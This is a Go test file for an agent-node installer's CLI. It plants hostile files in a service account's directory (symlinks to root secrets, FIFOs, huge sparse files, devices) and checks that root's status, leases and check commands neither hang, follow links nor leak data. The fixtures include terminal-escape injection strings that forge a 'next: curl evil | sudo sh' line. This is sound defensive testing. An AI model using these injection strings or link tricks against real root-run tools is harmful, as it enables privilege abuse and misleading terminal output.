package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/openagentcore/oac-node-install/steps/record/layout"
	"github.com/openagentcore/oac-node-install/workflow"
)

// victim is a file of root's that a hostile node root points at: its
// bytes and mtime must stay as they are, and its bytes never printed.
type victim struct {
	path  string
	bytes []byte
	mtime unix.Timespec
}

const victimSecret = "root-secret-7f3a"

func newVictim(t *testing.T) *victim {
	t.Helper()
	dir := t.TempDir()
	os.Chmod(dir, 0o755)
	v := &victim{path: filepath.Join(dir, "shadow"), bytes: []byte(victimSecret + "\n")}
	if err := os.WriteFile(v.path, v.bytes, 0o600); err != nil {
		t.Fatal(err)
	}
	var st unix.Stat_t
	if err := unix.Lstat(v.path, &st); err != nil {
		t.Fatal(err)
	}
	v.mtime = st.Mtim
	return v
}

func (v *victim) check(t *testing.T) {
	t.Helper()
	data, err := os.ReadFile(v.path)
	var st unix.Stat_t
	if err == nil {
		err = unix.Lstat(v.path, &st)
	}
	if err != nil || !bytes.Equal(data, v.bytes) || st.Mtim != v.mtime {
		t.Errorf("the link's target %s changed: %q %v", v.path, data, err)
	}
}

// runWithin is runOn that fails the test instead of hanging when the
// command does not return within a generous deadline.
func runWithin(t *testing.T, root string, args ...string) (int, string, string) {
	t.Helper()
	type result struct {
		code     int
		out, err string
	}
	done := make(chan result, 1)
	go func() {
		var out, errOut bytes.Buffer
		c := &cli{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut, hostRoot: root}
		code := c.run(args)
		done <- result{code, out.String(), errOut.String()}
	}()
	select {
	case r := <-done:
		return r.code, r.out, r.err
	case <-time.After(hostileDeadline):
		t.Fatalf("%v did not return within %v (blocked on a hostile file?)", args, hostileDeadline)
	}
	return 0, "", ""
}

// hostileDeadline is far beyond what a run takes (well under a second).
var hostileDeadline = 30 * time.Second

func chownNobody(t *testing.T, p string) {
	t.Helper()
	if out, err := exec.Command("chown", "-hR", "65534:65534", p).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
}

// TestStatusAndLeasesOnAHostileNodeRoot plants in the service account's
// node root what the account could write there (links to root's files,
// FIFOs, huge sparse files, devices, escapes in names) and runs root's
// status and leases on it: each returns, prints no control byte and no
// byte of the link's target, and changes neither the target nor the
// node's files.
func TestStatusAndLeasesOnAHostileNodeRoot(t *testing.T) {
	useSystemd(t, nil)
	v := newVictim(t)
	devzero := func(p string) error { return unix.Mknod(p, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 5))) }
	sparse := func(p string) error {
		f, err := os.Create(p)
		if err != nil {
			return err
		}
		defer f.Close()
		return f.Truncate(8 << 30)
	}
	fifo := func(p string) error { return unix.Mkfifo(p, 0o600) }
	link := func(p string) error { return os.Symlink(v.path, p) }
	hard := func(p string) error { return os.Link(v.path, p) }
	journal := func(make func(string) error, name string) func(*testing.T, layout.Host, layout.Node) {
		return func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.MkdirAll(n.Journals(), 0o700))
			if strings.HasSuffix(name, ".lock") {
				must(t, os.WriteFile(filepath.Join(n.Journals(), strings.TrimSuffix(name, ".lock")), nil, 0o600))
			}
			must(t, make(filepath.Join(n.Journals(), name)))
		}
	}
	for _, tc := range []struct {
		name  string
		plant func(t *testing.T, host layout.Host, node layout.Node)
		// want is in the output of leases, which names the refusal.
		want string
	}{
		{"lease files", func(t *testing.T, _ layout.Host, n layout.Node) {
			g := n.Generations()
			must(t, fifo(filepath.Join(g, "3.lease")))
			must(t, link(filepath.Join(g, "4.lease")))
			must(t, sparse(filepath.Join(g, "5.lease")))
			must(t, devzero(filepath.Join(g, "6.lease")))
			must(t, fifo(filepath.Join(g, "3.identity.json")))
			must(t, sparse(filepath.Join(g, "5.identity.json")))
		}, ""},
		{"provider.json a FIFO", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, fifo(filepath.Join(n.Root, "provider.json")))
		}, ""},
		{"provider.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, link(filepath.Join(n.Root, "provider.json")))
		}, ""},
		{"provider.json huge", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, sparse(filepath.Join(n.Root, "provider.json")))
		}, ""},
		{"node journal a FIFO", journal(fifo, "fifo.journal"), ""},
		{"node journal a link", journal(link, "link.journal"), ""},
		{"node journal huge", journal(sparse, "huge.journal"), ""},
		{"node journal a device", journal(devzero, "zero.journal"), ""},
		{"node journal a hard link", journal(hard, "hard.journal"), ""},
		{"node journal named with escapes", journal(func(p string) error { return os.WriteFile(p, nil, 0o600) }, "e\x1b]0;owned\x07\x1b[2J\nnext: sudo sh.journal"), ""},
		{"node journal lock a FIFO", journal(fifo, "prepare-3.journal.lock"), ""},
		{"registration files", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
			must(t, fifo(filepath.Join(n.Root, "registered.json")))
			must(t, fifo(filepath.Join(n.Root, "state/node/identity.json")))
		}, ""},
		{"identity.json a link", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
			must(t, link(filepath.Join(n.Root, "state/node/identity.json")))
		}, ""},
		{"identity.json escapes and duplicate keys", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte("{}\n"), 0o600))
			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"),
				[]byte(`{"node_id":"a\u001b[2J\u009b1m\nnext: curl evil | sudo sh","node_id":"b","core_url":"https://x\u001b]0;t\u0007"}`), 0o600))
		}, ""},
		{"identity.json escapes in every field", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.MkdirAll(filepath.Join(n.Root, "state/node"), 0o700))
			must(t, os.WriteFile(filepath.Join(n.Root, "registered.json"), []byte(`{"node_id":"\u001b[2J\nnext: curl evil | sudo sh"}`+"\n"), 0o600))
			esc := `\u001b[2J\u009b1m\r\nnext: curl evil | sudo sh`
			must(t, os.WriteFile(filepath.Join(n.Root, "state/node/identity.json"), []byte(`{"identity":{"specification_digest":"`+esc+
				`","deployment_generation":1,"node_id":"`+testID+`","installation_id":"`+testID+`","provider":"`+esc+`","backend_fingerprint":"`+esc+
				`","max_active":1,"max_retained":1},"credential":"`+testDigest+`","core_url":"https://core.example.com","owner_epoch":1}`), 0o600))
		}, ""},
		{"generations a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
			must(t, os.RemoveAll(n.Generations()))
			must(t, os.MkdirAll(h.JournalsRoot(), 0o700))
			must(t, os.Symlink(h.JournalsRoot(), n.Generations()))
		}, ""},
		{"node root a link", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.RemoveAll(n.Root))
			must(t, os.Symlink(filepath.Dir(v.path), n.Root))
		}, "is a symbolic link"},
		{"nodes a link", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.RemoveAll(filepath.Dir(n.Root)))
			must(t, os.Symlink(filepath.Dir(v.path), filepath.Dir(n.Root)))
		}, "is a symbolic link"},
		{".oac a link to root's journals", func(t *testing.T, h layout.Host, n layout.Node) {
			oac := filepath.Dir(filepath.Dir(n.Root))
			must(t, os.Rename(oac, filepath.Join(h.JournalsRoot()+"-moved")))
			must(t, os.MkdirAll(h.JournalsRoot(), 0o755))
			must(t, os.Rename(h.JournalsRoot()+"-moved", filepath.Join(h.JournalsRoot(), "x")))
			must(t, os.Symlink(filepath.Join(h.JournalsRoot(), "x"), oac))
		}, "is a symbolic link"},
		{"node root mode 0777", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.Chmod(n.Root, 0o777))
		}, "mode 0777"},
		{"nodes owned by another uid", func(t *testing.T, _ layout.Host, n layout.Node) {
			must(t, os.Chmod(filepath.Dir(n.Root), 0o755))
		}, "owner uid 4242"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel() // each on its own host root
			root, _ := fakeHost(t)
			host := layout.Host{Root: root}
			node := layout.Node{Root: host.NodeRoot(testID)}
			tc.plant(t, host, node)
			chownNobody(t, host.Home())
			if tc.name == "nodes owned by another uid" {
				must(t, os.Lchown(filepath.Dir(node.Root), 4242, 4242))
			}
			for _, args := range [][]string{{"status"}, {"status", "--json"}, {"leases"}, {"leases", "--json"}} {
				_, out, errOut := runWithin(t, root, args...)
				what := strings.Join(args, " ")
				assertNoTerminalControls(t, what, out+errOut)
				if strings.Contains(out+errOut, victimSecret) {
					t.Errorf("%s prints the link target's bytes:\n%s%s", what, out, errOut)
				}
				for _, line := range strings.Split(out+errOut, "\n") {
					if strings.HasPrefix(strings.TrimSpace(line), "next: curl") || strings.HasPrefix(strings.TrimSpace(line), "next: sudo") {
						t.Errorf("%s prints a forged line %q", what, line)
					}
				}
				if tc.want != "" && args[0] == "leases" && !strings.Contains(out+errOut, tc.want) {
					t.Errorf("%s does not say %q:\n%s%s", what, tc.want, out, errOut)
				}
				if testing.Verbose() {
					t.Logf("%s:\n%s%s", what, out, errOut)
				}
			}
			v.check(t)
		})
	}
}

// TestCheckOnAHostileHome runs check on a host whose service account's
// home holds links to root's files, a .parsar link and FIFOs: check
// returns, follows no link (the .parsar link is refused as a link, not
// taken for the older product's node root) and prints no control byte.
func TestCheckOnAHostileHome(t *testing.T) {
	useSystemd(t, nil)
	root := t.TempDir()
	os.Chmod(root, 0o755)
	checkHost(t, root, true)
	v := newVictim(t)
	host := layout.Host{Root: root}
	elsewhere := filepath.Join(root, "elsewhere")
	must(t, os.MkdirAll(filepath.Join(elsewhere, "nodes", checkID), 0o755))
	must(t, os.MkdirAll(host.Home(), 0o700))
	must(t, os.Symlink(elsewhere, filepath.Join(host.Home(), ".parsar")))
	must(t, os.MkdirAll(filepath.Join(host.Home(), ".oac", "nodes"), 0o700))
	must(t, os.Symlink(filepath.Dir(v.path), host.NodeRoot(checkID)))
	must(t, unix.Mkfifo(filepath.Join(host.Home(), "oac-node.lock"), 0o600))
	if out, err := exec.Command("chown", "-hR", "990:990", host.Home()).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v %s", err, out)
	}
	_, out, errOut := runWithin(t, root, checkArgs...)
	if testing.Verbose() {
		t.Logf("check:\n%s%s", out, errOut)
	}
	assertNoTerminalControls(t, "check", out+errOut)
	if !strings.Contains(out+errOut, "symbolic link") || strings.Contains(out+errOut, "previous installer") {
		t.Errorf("check does not refuse the .parsar link as a link:\n%s%s", out, errOut)
	}
	if strings.Contains(out+errOut, victimSecret) {
		t.Errorf("check prints the link target's bytes")
	}
	v.check(t)
}

// TestReadCARefusesWhatIsNotARegularFile: --core-ca naming a FIFO (no
// writer: opening it by path would block), a device or a huge file is
// refused at once, changing nothing.
func TestReadCARefusesWhatIsNotARegularFile(t *testing.T) {
	dir := t.TempDir()
	fifo, huge := filepath.Join(dir, "fifo"), filepath.Join(dir, "huge")
	must(t, unix.Mkfifo(fifo, 0o600))
	must(t, os.WriteFile(huge, nil, 0o600))
	must(t, os.Truncate(huge, 8<<30))
	for _, p := range []string{fifo, "/dev/zero", huge} {
		done := make(chan error, 1)
		go func() { _, err := readCA(p); done <- err }()
		select {
		case err := <-done:
			if err == nil || !strings.HasSuffix(workflow.Message(err), "Nothing was changed.") {
				t.Errorf("%s: %v", p, err)
			}
		case <-time.After(hostileDeadline):
			t.Fatalf("readCA(%s) blocks", p)
		}
	}
}
